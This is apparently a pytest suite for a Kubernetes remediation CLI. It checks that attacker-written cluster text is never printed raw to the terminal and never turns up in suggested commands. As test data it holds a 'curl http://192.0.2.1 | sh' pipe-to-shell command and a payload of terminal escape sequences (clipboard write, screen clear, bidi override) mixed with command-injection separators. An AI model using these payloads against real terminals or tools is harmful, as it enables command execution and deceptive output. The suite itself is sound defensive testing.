"""Whoever may write to the cluster writes text: no terminal obeys it, and no hint has a command of theirs."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml

from remediation.cli.console import printable
from remediation.model.limits import MESSAGE
from remediation.providers.kubernetes.locks import lease_of
from runbook_sandbox.kubernetes import Fault, Response
from tests.engine.world import World, break_

THEIRS = "curl http://192.0.2.1 | sh"
# The clipboard, the cursor, a colour, C1, direction of text, a word that is not seen, a line and a command of their own.
HOSTILE = (
    f"\x1b]52;c;aWQK\x07\x1b[2J\x1b[1A\x1b[32mok\x1b[0m\x9b2J\u202eabc\u2066\u200b\r; {THEIRS}\n"
    f"next:  {THEIRS}\n  or:  {THEIRS}  or  {THEIRS} {{}} $({THEIRS}) '"
)
MASQ = ("ip-masq-agent", "--masquerade", "10.1.0.0/16")


class Shown:
    """Runs verbs, as text and as JSON, and looks at all that they print."""

    def __init__(self, world: World, folder: Path, config: Path) -> None:
        self.world, self.folder, self.config = world, folder, config

    def __call__(self, *words: str) -> str:
        """Return what a verb printed as text."""
        text = self._run(words)
        for hint in hints(text):
            require_ours(hint)
        return text

    def json(self, *words: str) -> Any:
        """Return its document, which means what was read."""
        text = self._run((*words, "-o", "json"))
        return json.loads(text[text.index("{") :])

    def _run(self, words: tuple[str, ...]) -> str:
        where = ("--kubeconfig", str(self.config), "--context", HOSTILE, "--store", str(self.folder / "journal.db"))
        env = {"RUNBOOK_GOOGLE_ENDPOINT": self.world.google.url, "RUNBOOK_IAM_ENDPOINT": self.world.google.grpc_target}
        text = str(self.world.program.run(*words, *where, env=env)["text"])
        assert text == printable(text), words
        return text


def hints(text: str) -> list[str]:
    """Return everything that stands where a person looks for what to type."""
    return re.findall(r"^ *(?:next|  or|then): +(.*)$", text, re.M)


def require_ours(hint: str) -> None:
    """A shell sees words only: nothing that ends one command and begins another, and nothing to be replaced."""
    outside = re.sub(r"\$?'(?:[^'\\]|\\.)*'", "QUOTED", hint)
    assert not re.search(r"[;|&`$<>\n]", outside), hint
    assert "curl" not in outside, hint


@pytest.fixture
def shown(world: World, tmp_path: Path) -> Iterator[Shown]:
    break_(world, "ip-masq-agent")
    config = json.loads(world.kubeconfig.read_text())
    config["contexts"][0]["name"] = config["current-context"] = HOSTILE
    path = tmp_path / "theirs"
    path.write_text(json.dumps(config))
    yield Shown(world, tmp_path, path)
    world.cluster.faults = None


def change(world: World, kind: str, name: str, namespace: str, **metadata: Any) -> Any:
    """Write into an object past everything that checks it."""
    obj = json.loads(json.dumps(world.cluster.get(kind, name, namespace)))
    obj["metadata"] |= metadata
    world.cluster.store.put(kind, obj)
    return obj


def test_a_run_and_its_history(shown: Shown) -> None:
    """The context, the reason and the configuration are theirs; plan, run, history, proof and undo are shown."""
    text = f"nonMasqueradeCIDRs: [10.0.0.0/8]\nresyncInterval: 60s\n{json.dumps(HOSTILE)}: {json.dumps(HOSTILE)}\n"
    config = change(shown.world, "configmaps", "ip-masq-agent", "kube-system")
    shown.world.cluster.store.put("configmaps", config | {"data": {"config": text}})
    shown("diagnose", "ip-masq-agent")
    shown("plan", *MASQ, "--out", str(shown.folder / "plan.json"))
    document = shown.json("run", *MASQ, "--yes", "--reason", HOSTILE, "--ticket", HOSTILE, "--actor", HOSTILE)
    assert document["target"]["context"] == HOSTILE
    for words in (["runs"], ["runs", "last"], ["verify", "last", "--within", "0"], ["rollback", "last", "--dry-run"]):
        shown(*words)
    assert shown.json("runs")["runs"][0]["reason"] == HOSTILE
    shown("pause", "--reason", HOSTILE)
    shown("run", *MASQ, "--yes")


def test_what_is_typed_and_logged(shown: Shown) -> None:
    """Words that were pasted from somewhere, logs, roles for kubectl, and a bug with all that it knows."""
    shown("plan", HOSTILE)
    shown("rollback", HOSTILE)
    shown("plan", *MASQ, HOSTILE)
    shown("run", *MASQ, "--yes", "--log", "console", "--actor", HOSTILE)
    shown("rollback", "last", "--yes", "--log", "json")
    text = shown("rbac", "ip-masq-agent", "--user", HOSTILE)
    roles = [role for role in yaml.safe_load_all(text[text.index("apiVersion") :]) if role]
    assert {role["subjects"][0]["name"] for role in roles if "subjects" in role} == {HOSTILE}


def test_what_an_api_server_and_its_objects_say(shown: Shown) -> None:
    """Refusals, warnings, who holds a lock, who made an object, and what a kubelet waits for."""
    body = {"kind": "Status", "message": HOSTILE * 100, "reason": HOSTILE, "code": 403}
    shown.world.cluster.faults = lambda method, path, *_: (
        Fault(answer=Response(403, body)) if "configmaps" in path else None
    )
    assert "more characters)" in " ".join(shown("plan", *MASQ).split())
    assert len(shown.json("plan", *MASQ)["error"]["summary"]) < MESSAGE + 100
    shown("doctor")
    shown.world.cluster.faults = None
    lease = lease_of("cluster/kube-system/configmap/kube-system/ip-masq-agent")
    now = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    spec = {"holderIdentity": HOSTILE, "leaseDurationSeconds": 30, "renewTime": now}
    held = {"apiVersion": lease.api_version, "kind": "Lease", "spec": spec}
    shown.world.cluster.store.put("leases.coordination.k8s.io", held | {"metadata": {"name": lease.name, "namespace": lease.namespace, "uid": "x", "labels": {"app.kubernetes.io/managed-by": "runbook"}}})  # fmt: skip
    assert "is locked by" in shown("run", *MASQ, "--yes")


def test_the_run_that_an_annotation_names(shown: Shown) -> None:
    """An id is an id or nothing: what somebody wrote in its place is in no command."""
    break_(shown.world, "ipam-cleanup")
    made = {"apiVersion": "v1", "kind": "ConfigMap", "data": {}}
    said = {"runbook/run": f"20260102-030405-ab12; {THEIRS}"}
    shown.world.cluster.store.put("configmaps", made | {"metadata": {"name": "runbook-ipam-cleanup", "namespace": "kube-system", "uid": "x", "annotations": said}})  # fmt: skip
    text = shown("plan", "ipam-cleanup", "--node", "node-2")
    assert "exists already" in text
    assert "ab12" not in text


def test_what_a_kubelet_says_of_a_pod(shown: Shown) -> None:
    """The message of a container that waits is evidence, and no more than that."""
    break_(shown.world, "pull-secret")
    pods = [pod for pod in shown.world.cluster.store.list("pods", "shop") if pod["spec"].get("serviceAccountName")]
    for pod in json.loads(json.dumps(pods)):
        for status in pod["status"].get("containerStatuses") or []:
            status["state"] = {"waiting": {"reason": "ImagePullBackOff", "message": f"403 Forbidden {HOSTILE}"}}
        shown.world.cluster.store.put("pods", pod)
    assert "\\u202eabc" in shown("diagnose", "pull-secret")
    assert any(
        HOSTILE in text for found in shown.json("diagnose", "pull-secret")["findings"] for text in found["evidence"]
    )
